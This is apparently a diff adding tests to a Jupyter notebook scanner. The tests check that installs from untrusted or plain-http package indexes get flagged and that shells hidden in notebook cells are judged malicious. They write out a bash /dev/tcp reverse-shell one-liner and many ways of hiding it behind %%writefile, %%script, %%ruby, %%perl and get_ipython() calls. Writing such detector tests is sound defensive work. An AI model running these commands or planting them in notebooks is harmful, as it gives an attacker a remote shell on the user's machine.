@@ -58,6 +58,58 @@ test('an ordinary notebook stays clean, with its magics, help and pictures', () 
   assert.deepEqual([verdict, findings.filter(({ severity }) => severity !== 'informational'), unread], ['clean', [], []]);
 });
 
+test('packages that a cell installs from where others may answer are told; ordinary installs are not', () => {
+  const findings = (source: string) =>
+    report([{ source }]).findings.flatMap(({ ruleId, severity, evidence }) =>
+      ruleId === 'package-source' ? [`${severity} ${evidence}`] : [],
+    );
+  for (const source of [
+    '%pip install git+http://files.example/acme.git',
+    '!pip install --index-url http://index.example/simple acme',
+    '!pip install -q \\\n  --trusted-host index.example acme',
+    '%pip install acme --extra-index-url=https://index.example/simple',
+    '!{sys.executable} -m pip install -i http://index.example/simple acme',
+    '%conda install -c http://channel.example/main acme',
+    '%%bash\nset -e\nuv pip install http://files.example/acme-1.0.whl',
+    "get_ipython().run_line_magic('pip', 'install --trusted-host index.example acme')",
+    "get_ipython().run_cell_magic('bash', '', 'pip install -i http://index.example/simple acme')",
+    '!npm install --registry http://registry.example acme',
+  ])
+    assert.deepEqual(
+      findings(source).map((told) => told.split(' ')[0]),
+      ['medium'],
+      source,
+    );
+  for (const source of [
+    '%pip install -q -U "torch>=2" git+https://github.com/acme/acme.git@main',
+    '!pip install torch --index-url https://download.pytorch.org/whl/cu121',
+    '!pip install acme -i http://localhost:8080/simple',
+    '%uv pip install numpy\n%conda install -c conda-forge numpy\n!pip install -r requirements.txt -c constraints.txt',
+  ])
+    assert.deepEqual(findings(source), [], source);
+});
+
+test('files that a cell writes are read where another cell runs them, and shells behind other magics', () => {
+  const shell = 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1';
+  const hostile: readonly (readonly [string, ...string[]])[] = [
+    [`%%writefile go.sh\n${shell}`, '!bash go.sh'],
+    [`%%writefile ./go.sh\n${shell}`, '!chmod +x go.sh && ./go.sh'],
+    [`%%writefile train.py\nimport os\nos.system('${shell}')`, '%run train.py'],
+    [`%%file train.py\nimport os\nos.system('${shell}')`, '!python -u train.py --epochs 3'],
+    [`%%script --no-raise-error bash\n${shell}`],
+    [`%%script python3\nimport os\nos.system('${shell}')`],
+    [`%%capture\n%%bash\n${shell}`],
+    [`%%!\n${shell}`],
+    [`%%ruby\n\`${shell}\``],
+    [`%%perl\nsystem("${shell}");`],
+    [`get_ipython().run_cell_magic('bash', '', '${shell}')`],
+    [`get_ipython().run_line_magic('system', '${shell}')`],
+    [`get_ipython().run_cell("import os\\nos.system('${shell}')")`],
+  ];
+  for (const cells of hostile) assert.equal(report(cells.map((source) => ({ source }))).verdict, 'malicious', cells[0]);
+  assert.equal(report([{ source: `%%writefile go.sh\n${shell}` }, { source: '!bash other.sh' }]).verdict, 'clean');
+});
+
 test('what a cell does is found, with cell and line, however it is written', () => {
   const shell = 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1';
   for (const source of [
